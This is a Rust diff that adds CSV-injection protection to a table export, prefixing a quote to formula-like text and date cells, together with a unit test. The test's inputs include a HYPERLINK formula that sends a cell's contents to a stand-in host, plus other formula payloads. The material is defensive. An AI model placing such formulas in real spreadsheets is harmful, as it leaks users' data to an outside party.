@@ -160,16 +160,29 @@ pub async fn tasks_table(state: &AppState, caller: &Caller) -> ApiResult<Table> 
     })
 }
 
+/// A text cell as a spreadsheet program will not run it: one starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return (a formula, or one once the program strips the blank) gets
+/// a leading `'` (OWASP's advice for CSV injection); the csv writer then quotes as usual.
+/// Only text cells: a number column's numbers (negative ones included) stay numbers.
+fn csv_text(s: &str) -> Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        Cow::Borrowed(s)
+    }
+}
+
 pub fn to_csv(t: &Table) -> anyhow::Result<Vec<u8>> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
         let mut w = csv::Writer::from_writer(&mut out);
-        w.write_record(&t.headers)?;
+        w.write_record(t.headers.iter().map(|h| csv_text(h).into_owned()))?;
         for row in &t.rows {
             w.write_record(row.iter().map(|c| match c {
-                Cell::Text(s) => s.clone(),
+                Cell::Text(s) => csv_text(s).into_owned(),
                 Cell::Number(n) => n.to_string(),
-                Cell::Date(d) => d.clone().unwrap_or_default(),
+                // A date is `YYYY-MM-DD`; one stored before the limits may be any text.
+                Cell::Date(d) => csv_text(d.as_deref().unwrap_or_default()).into_owned(),
             }))?;
         }
         w.flush()?;
@@ -326,6 +339,67 @@ mod tests {
         // they are, and Excel then calls the file damaged.
         assert_eq!(xlsx_text("a\u{fffe}b\u{ffff}"), "a\u{fffd}b\u{fffd}");
         assert_eq!(xlsx_text("a\0b\u{1b}"), "a\0b\u{1b}");
+    }
+
+    fn csv_rows(table: &Table) -> Vec<Vec<String>> {
+        let bytes = to_csv(table).unwrap_or_else(|e| panic!("csv: {e}"));
+        let text = String::from_utf8(bytes).unwrap_or_else(|e| panic!("utf-8: {e}"));
+        csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+            .records()
+            .map(|r| {
+                r.unwrap_or_else(|e| panic!("csv record: {e}"))
+                    .iter()
+                    .map(String::from)
+                    .collect()
+            })
+            .collect()
+    }
+
+    #[test]
+    fn csv_text_cells_that_would_run_as_formulas_get_a_leading_quote_and_numbers_stay_numbers() {
+        let texts = [
+            "=HYPERLINK(\"http://x.test/?\"&A1,\"bấm\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+            "Nguyễn Văn An",
+            "a=b, \"quoted\"",
+        ];
+        let table = Table {
+            sheet: "Nhiệm vụ",
+            headers: vec!["Tên".into(), "Tiến độ (%)".into(), "Hạn".into()],
+            rows: texts
+                .iter()
+                .map(|s| {
+                    vec![
+                        Cell::Text((*s).into()),
+                        Cell::Number(-42.5),
+                        Cell::Date(Some("=1+1".into())),
+                    ]
+                })
+                .collect(),
+        };
+        let rows = csv_rows(&table);
+        let got: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
+        assert_eq!(
+            got,
+            [
+                "'=HYPERLINK(\"http://x.test/?\"&A1,\"bấm\")",
+                "'+1+2",
+                "'-2+3",
+                "'@SUM(A1:A2)",
+                "'\t=1",
+                "'\r=1",
+                "Nguyễn Văn An",
+                "a=b, \"quoted\"",
+            ]
+        );
+        for r in &rows {
+            assert_eq!(r[1], "-42.5", "a number column keeps its negative numbers");
+            assert_eq!(r[2], "'=1+1", "a date column's stray text is text");
+        }
     }
 
     #[test]
